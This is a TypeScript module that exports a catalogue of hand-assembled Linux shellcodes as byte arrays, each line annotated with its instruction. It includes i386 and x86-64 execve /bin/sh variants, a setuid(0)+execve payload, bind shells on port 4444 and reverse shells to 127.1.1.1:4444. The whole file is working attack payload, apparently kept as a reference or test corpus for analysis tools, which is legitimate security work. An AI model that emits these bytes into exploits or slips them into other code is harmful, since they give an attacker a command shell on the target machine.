/**
 * Classic Linux shellcodes written out from their well-known instruction sequences (execve
 * /bin/sh, bind shell, reverse shell; i386 and x86-64). Hand-assembled here, one instruction
 * per line, so the bytes can be checked against the comments.
 */

export interface Shellcode {
  name: string;
  arch: 'x86' | 'x64';
  bytes: Uint8Array;
  /** Offset where execution starts (0 unless data precedes the code). */
  entry: number;
}

function hex(...parts: string[]): Uint8Array {
  const h = parts.join('').replace(/\s+/g, '');
  const out = new Uint8Array(h.length / 2);
  for (let i = 0; i < out.length; i++) out[i] = parseInt(h.slice(i * 2, i * 2 + 2), 16);
  return out;
}

// i386 execve("/bin//sh", ["/bin//sh"], NULL) with the string pushed on the stack.
const X86_EXECVE_STACK = hex(
  '31c0', //         xor eax, eax
  '50', //           push eax
  '682f2f7368', //   push "//sh"
  '682f62696e', //   push "/bin"
  '89e3', //         mov ebx, esp
  '50', //           push eax
  '53', //           push ebx
  '89e1', //         mov ecx, esp
  '99', //           cdq
  'b00b', //         mov al, 11 (execve)
  'cd80', //         int 0x80
);

// i386 execve, Aleph One style: jmp/call/pop to find the trailing string.
const X86_EXECVE_JCP = hex(
  'eb18', //         jmp short +24 (to the call)
  '5e', //           pop esi            ; esi = "/bin/sh"
  '31c0', //         xor eax, eax
  '884607', //       mov [esi+7], al
  '897608', //       mov [esi+8], esi
  '89460c', //       mov [esi+12], eax
  'b00b', //         mov al, 11
  '89f3', //         mov ebx, esi
  '8d4e08', //       lea ecx, [esi+8]
  '8d560c', //       lea edx, [esi+12]
  'cd80', //         int 0x80
  'e8e3ffffff', //   call -29 (back to pop esi)
  '2f62696e2f7368', // "/bin/sh"
  '4e41414141424242', // "NAAAABBB" placeholder bytes
);

// i386 setuid(0) then execve.
const X86_SETUID_EXECVE = hex(
  '31db', //         xor ebx, ebx
  '6a17', //         push 23 (setuid)
  '58', //           pop eax
  'cd80', //         int 0x80
  '31c9', //         xor ecx, ecx
  'f7e1', //         mul ecx            ; eax = edx = 0
  '51', //           push ecx
  '682f2f7368', //   push "//sh"
  '682f62696e', //   push "/bin"
  '89e3', //         mov ebx, esp
  'b00b', //         mov al, 11
  'cd80', //         int 0x80
);

// i386 execve, "xor ecx / mul ecx" variant (no argv).
const X86_EXECVE_MUL = hex(
  '31c9', //         xor ecx, ecx
  'f7e1', //         mul ecx
  '51', //           push ecx
  '682f2f7368', //   push "//sh"
  '682f62696e', //   push "/bin"
  '89e3', //         mov ebx, esp
  'b00b', //         mov al, 11
  'cd80', //         int 0x80
);

const X86_EXECVE_TAIL = hex(
  '52', //           push edx (0)
  '682f2f7368', //   push "//sh"
  '682f62696e', //   push "/bin"
  '89e3', //         mov ebx, esp
  '52', //           push edx
  '53', //           push ebx
  '89e1', //         mov ecx, esp
  'b00b', //         mov al, 11
  'cd80', //         int 0x80
);

const X86_SOCKET = hex(
  '31db', //         xor ebx, ebx
  'f7e3', //         mul ebx            ; eax = edx = 0
  '53', //           push ebx           ; protocol 0
  '43', //           inc ebx            ; SYS_SOCKET
  '53', //           push ebx           ; SOCK_STREAM
  '6a02', //         push 2             ; AF_INET
  '89e1', //         mov ecx, esp
  'b066', //         mov al, 102 (socketcall)
  'cd80', //         int 0x80
);

// i386 bind shell on port 4444 through socketcall.
const X86_BIND = new Uint8Array([
  ...X86_SOCKET,
  ...hex(
    '96', //         xchg eax, esi      ; esi = socket
    '43', //         inc ebx            ; SYS_BIND
    '52', //         push edx           ; INADDR_ANY
    '6668115c', //   push word 0x5c11   ; port 4444
    '6653', //       push bx            ; AF_INET
    '89e1', //       mov ecx, esp
    '6a10', //       push 16
    '51', //         push ecx
    '56', //         push esi
    '89e1', //       mov ecx, esp
    '6a66', //       push 102           ; eax holds the old esi: reload it whole
    '58', //         pop eax
    'cd80', //       int 0x80
    '4343', //       inc ebx x2         ; SYS_LISTEN
    '52', //         push edx
    '56', //         push esi
    '89e1', //       mov ecx, esp
    'b066', //       mov al, 102
    'cd80', //       int 0x80
    '43', //         inc ebx            ; SYS_ACCEPT
    '52', //         push edx
    '52', //         push edx
    '56', //         push esi
    '89e1', //       mov ecx, esp
    'b066', //       mov al, 102
    'cd80', //       int 0x80
    '93', //         xchg eax, ebx      ; ebx = client
    '6a02', //       push 2
    '59', //         pop ecx
    'b03f', // L:    mov al, 63 (dup2)
    'cd80', //       int 0x80
    '49', //         dec ecx
    '79f9', //       jns L
  ),
  ...X86_EXECVE_TAIL,
]);

// i386 reverse shell to 127.1.1.1:4444 through socketcall.
const X86_REVERSE = new Uint8Array([
  ...X86_SOCKET,
  ...hex(
    '93', //         xchg eax, ebx      ; ebx = socket
    '59', //         pop ecx            ; ecx = 2
    'b03f', // L:    mov al, 63 (dup2)
    'cd80', //       int 0x80
    '49', //         dec ecx
    '79f9', //       jns L
    '687f010101', // push 127.1.1.1
    '6668115c', //   push word 0x5c11
    '666a02', //     push word 2
    '89e1', //       mov ecx, esp
    'b066', //       mov al, 102
    '50', //         push eax           ; addrlen (>= 16)
    '51', //         push ecx
    '53', //         push ebx
    'b303', //       mov bl, 3          ; SYS_CONNECT
    '89e1', //       mov ecx, esp
    'cd80', //       int 0x80
  ),
  ...X86_EXECVE_TAIL,
]);

// x86-64 execve("/bin//sh", NULL, NULL).
const X64_EXECVE = hex(
  '4831f6', //       xor rsi, rsi
  '56', //           push rsi
  '48bf2f62696e2f2f7368', // mov rdi, "/bin//sh"
  '57', //           push rdi
  '54', //           push rsp
  '5f', //           pop rdi
  '6a3b', //         push 59 (execve)
  '58', //           pop rax
  '99', //           cdq
  '0f05', //         syscall
);

// x86-64 execve with the string hidden by two's complement (neg).
const X64_EXECVE_NEG = hex(
  '31c0', //         xor eax, eax
  '48bbd19d9691d08c97ff', // mov rbx, ~"/bin/sh"+1
  '48f7db', //       neg rbx
  '53', //           push rbx
  '54', //           push rsp
  '5f', //           pop rdi
  '99', //           cdq
  '52', //           push rdx
  '57', //           push rdi
  '54', //           push rsp
  '5e', //           pop rsi
  'b03b', //         mov al, 59
  '0f05', //         syscall
);

const X64_EXECVE_TAIL = hex(
  '6a3b', //         push 59
  '58', //           pop rax
  '99', //           cdq
  '48bb2f62696e2f2f7368', // mov rbx, "/bin//sh"
  '52', //           push rdx
  '53', //           push rbx
  '54', //           push rsp
  '5f', //           pop rdi
  '52', //           push rdx
  '57', //           push rdi
  '54', //           push rsp
  '5e', //           pop rsi
  '0f05', //         syscall
);

const X64_SOCKET = hex(
  '6a29', //         push 41 (socket)
  '58', //           pop rax
  '6a02', //         push 2
  '5f', //           pop rdi
  '6a01', //         push 1
  '5e', //           pop rsi
  '99', //           cdq
  '0f05', //         syscall
  '4897', //         xchg rax, rdi
);

const X64_DUP2_LOOP = hex(
  '6a03', //         push 3
  '5e', //           pop rsi
  '48ffce', // L:    dec rsi
  '6a21', //         push 33 (dup2)
  '58', //           pop rax
  '0f05', //         syscall
  '75f6', //         jnz L
);

// x86-64 bind shell on port 4444.
const X64_BIND = new Uint8Array([
  ...X64_SOCKET,
  ...hex(
    '52', //         push rdx
    '6668115c', //   push word 0x5c11
    '666a02', //     push word 2
    '54', //         push rsp
    '5e', //         pop rsi
    '6a10', //       push 16
    '5a', //         pop rdx
    '6a31', //       push 49 (bind)
    '58', //         pop rax
    '0f05', //       syscall
    '6a32', //       push 50 (listen)
    '58', //         pop rax
    '31f6', //       xor esi, esi
    '0f05', //       syscall
    '6a2b', //       push 43 (accept)
    '58', //         pop rax
    '99', //         cdq
    '0f05', //       syscall
    '4897', //       xchg rax, rdi
  ),
  ...X64_DUP2_LOOP,
  ...X64_EXECVE_TAIL,
]);

// x86-64 reverse shell to 127.1.1.1:4444.
const X64_REVERSE = new Uint8Array([
  ...X64_SOCKET,
  ...hex(
    '687f010101', // push 127.1.1.1
    '6668115c', //   push word 0x5c11
    '666a02', //     push word 2
    '54', //         push rsp
    '5e', //         pop rsi
    '6a10', //       push 16
    '5a', //         pop rdx
    '6a2a', //       push 42 (connect)
    '58', //         pop rax
    '0f05', //       syscall
  ),
  ...X64_DUP2_LOOP,
  ...X64_EXECVE_TAIL,
]);

// x86-64 execve with the path addressed RIP-relative (string placed before the code).
const X64_EXECVE_RIP = hex(
  '2f62696e2f736858', // "/bin/shX"
  '31c0', //         xor eax, eax
  '488d3defffffff', // lea rdi, [rip-17]  ; -> "/bin/shX"
  '884707', //       mov [rdi+7], al
  '50', //           push rax
  '57', //           push rdi
  '4889e6', //       mov rsi, rsp
  '99', //           cdq
  'b03b', //         mov al, 59
  '0f05', //         syscall
);

export const SHELLCODES: Shellcode[] = [
  { name: 'x86-execve-stack', arch: 'x86', bytes: X86_EXECVE_STACK, entry: 0 },
  { name: 'x86-execve-jcp', arch: 'x86', bytes: X86_EXECVE_JCP, entry: 0 },
  { name: 'x86-setuid-execve', arch: 'x86', bytes: X86_SETUID_EXECVE, entry: 0 },
  { name: 'x86-execve-mul', arch: 'x86', bytes: X86_EXECVE_MUL, entry: 0 },
  { name: 'x86-bind-4444', arch: 'x86', bytes: X86_BIND, entry: 0 },
  { name: 'x86-reverse-4444', arch: 'x86', bytes: X86_REVERSE, entry: 0 },
  { name: 'x64-execve', arch: 'x64', bytes: X64_EXECVE, entry: 0 },
  { name: 'x64-execve-neg', arch: 'x64', bytes: X64_EXECVE_NEG, entry: 0 },
  { name: 'x64-bind-4444', arch: 'x64', bytes: X64_BIND, entry: 0 },
  { name: 'x64-reverse-4444', arch: 'x64', bytes: X64_REVERSE, entry: 0 },
  { name: 'x64-execve-rip', arch: 'x64', bytes: X64_EXECVE_RIP, entry: 8 },
];
